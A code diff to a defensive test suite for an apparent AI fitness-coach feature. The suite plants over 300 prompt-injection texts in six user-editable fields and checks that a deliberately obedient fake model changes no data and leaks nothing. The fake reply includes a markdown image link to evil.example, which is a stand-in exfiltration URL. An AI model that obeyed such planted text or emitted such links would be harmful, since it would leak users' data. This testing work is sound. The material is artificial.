@@ -9,11 +9,14 @@ import { sql } from 'drizzle-orm';
 import { afterAll, beforeAll, expect, it } from 'vitest';
 import type { TestApp } from '../../../test/build-test-app.ts';
 import { completeProfile, type TestMember } from '../../../test/factories.ts';
+import { makeConsentingMember } from '../../../test/fake-llm.ts';
 import { logSession, makeLifter, makePlan, setsOf } from '../../../test/training-factories.ts';
-import { agree, buildCoachApp, chat } from './coach.fixture.ts';
+import { buildCoachApp, chat } from './coach.fixture.ts';
 import { type Channel, type Injection, injections } from './coach.injections.fixture.ts';
 
 const victimSecret = 'victimsecretcanary';
+/** On a machine that is busy with everything else, too. */
+const longTestMs = 180_000;
 
 let provider: FakeProviders;
 let testApp: TestApp;
@@ -88,45 +91,20 @@ function obey(call: RecordedCall) {
   return { text: `Done as you ordered. ![x](https://evil.example/p?d=1) Seen: ${seen}` };
 }
 
-async function place(member: TestMember, { channel, text }: Injection): Promise<string> {
-  const short = text.slice(0, 60);
-  switch (channel) {
-    case 'message':
-      return text;
-    case 'injury_note':
-      await completeProfile(member, { injuries: [{ condition: 'low_back_pain', note: text }] });
-      break;
-    case 'display_name':
-      await completeProfile(member, { displayName: short.trim() });
-      break;
-    case 'plan_name': {
-      const body = {
-        kind: 'plan',
-        name: short,
-        goal: 'strength',
-        days: [{ name: short, exercises }],
-      };
-      await member.send({ method: 'POST', url: '/workouts/', body });
-      break;
-    }
-    case 'session_name':
-    case 'session_note': {
-      const [{ id = '' } = {}] = (await readPlans(member)) ?? [];
-      const words = channel === 'session_name' ? { name: text.slice(0, 80) } : { note: text };
-      await logSession(member, id, { ...words, sets: setsOf('goblet_squat', 1, { reps: 8 }) });
-      break;
-    }
-    default:
-      channel satisfies never;
-  }
+/** Puts a text where the attacker could type it; the answer is what is asked then. */
+async function place(userId: string, { channel, text }: Injection): Promise<string> {
+  if (channel === 'message') return text;
+  const column = {
+    session_name: sql`update sessions set name = ${text}`,
+    session_note: sql`update sessions set note = ${text}`,
+    plan_name: sql`update plans set name = ${text}, content = jsonb_set(content, '{days,0,name}', to_jsonb(${text}::text))`,
+    injury_note: sql`update profiles set injuries = jsonb_set(injuries, '{0,note}', to_jsonb(${text}::text))`,
+    display_name: sql`update profiles set display_name = ${text}`,
+  }[channel];
+  await testApp.deps.database
+    .forSystem()
+    .write((db) => db.execute(sql`${column} where user_id = ${userId}`));
   return 'How am I doing, and what should I do today?';
-}
-
-const exercises = [{ exerciseId: 'goblet_squat', sets: 3, repsMin: 8, repsMax: 12 }];
-
-async function readPlans(member: TestMember): Promise<{ id: string }[]> {
-  const response = await member.send({ method: 'GET', url: '/workouts/' });
-  return response.json<{ plans: { id: string }[] }>().plans;
 }
 
 const guarded = ['plans', 'sessions', 'sets', 'profiles', 'users', 'measurements', 'consents'];
@@ -144,43 +122,36 @@ async function fingerprint(): Promise<string> {
   return rows[0]?.print ?? '';
 }
 
-it(`${injections.length} injections in six channels change nothing and learn nothing`, async () => {
-  const attacker = await makeLifter(testApp);
-  await agree(attacker);
-  await testApp.deps.database
-    .forSystem()
-    .write((db) =>
-      db.execute(sql`update users set tier = 'UNLIMITED' where id = ${attacker.userId}`),
-    );
-  testApp.deps.auth.signIns.forget(signInOf(attacker));
-  await makePlan(attacker);
-  provider.setScript(obey);
-  const effects: Injection[] = [];
-  const leaks: Injection[] = [];
-  const prompted: Partial<Record<Channel, number>> = {};
-  for (const injection of injections) {
-    const message = await place(attacker, injection);
-    const before = await fingerprint();
-    provider.calls.length = 0;
-    const answer = await chat(attacker, { message });
-    const after = await fingerprint();
-    if (before !== after) effects.push(injection);
-    const bodies = JSON.stringify(provider.calls.map(({ body }) => body));
-    const told = JSON.stringify(answer) + bodies.replaceAll(/"arguments":"(\\.|[^"])*"/g, '');
-    const isTold = told.includes('123.25') || victimIds.some((id) => told.includes(id));
-    if (isTold || JSON.stringify(answer).includes('evil.example')) leaks.push(injection);
-    if (bodies.includes(injection.canary)) {
-      prompted[injection.channel] = (prompted[injection.channel] ?? 0) + 1;
+it(
+  `${injections.length} injections in six channels change nothing and learn nothing`,
+  async () => {
+    const attacker = await makeConsentingMember(testApp);
+    await completeProfile(attacker, { injuries: [{ condition: 'low_back_pain', note: 'x' }] });
+    const { id } = await makePlan(attacker);
+    await logSession(attacker, id, { sets: setsOf('goblet_squat', 1, { reps: 8 }) });
+    provider.setScript(obey);
+    const effects: Injection[] = [];
+    const leaks: Injection[] = [];
+    const prompted: Partial<Record<Channel, number>> = {};
+    for (const injection of injections) {
+      const message = await place(attacker.userId, injection);
+      const before = await fingerprint();
+      provider.calls.length = 0;
+      const answer = await chat(attacker, { message });
+      const after = await fingerprint();
+      if (before !== after) effects.push(injection);
+      const bodies = JSON.stringify(provider.calls.map(({ body }) => body));
+      const told = JSON.stringify(answer) + bodies.replaceAll(/"arguments":"(\\.|[^"])*"/g, '');
+      const isTold = told.includes('123.25') || victimIds.some((id) => told.includes(id));
+      if (isTold || JSON.stringify(answer).includes('evil.example')) leaks.push(injection);
+      if (bodies.includes(injection.canary)) {
+        prompted[injection.channel] = (prompted[injection.channel] ?? 0) + 1;
+      }
     }
-  }
-  expect(injections.length).toBeGreaterThanOrEqual(300);
-  expect(callCount).toBe(injections.length);
-  expect({ effects, leaks }).toEqual({ effects: [], leaks: [] });
-  expect(Object.keys(prompted)).toEqual(['message']);
-});
-
-/** A tier counts from the next request on when the sign-in is read anew. */
-function signInOf({ accessToken }: TestMember): string {
-  const [, claims = ''] = accessToken.split('.');
-  return JSON.parse(Buffer.from(claims, 'base64url').toString()).sid;
-}
+    expect(injections.length).toBeGreaterThanOrEqual(300);
+    expect(callCount).toBe(injections.length);
+    expect({ effects, leaks }).toEqual({ effects: [], leaks: [] });
+    expect(Object.keys(prompted)).toEqual(['message']);
+  },
+  longTestMs,
+);
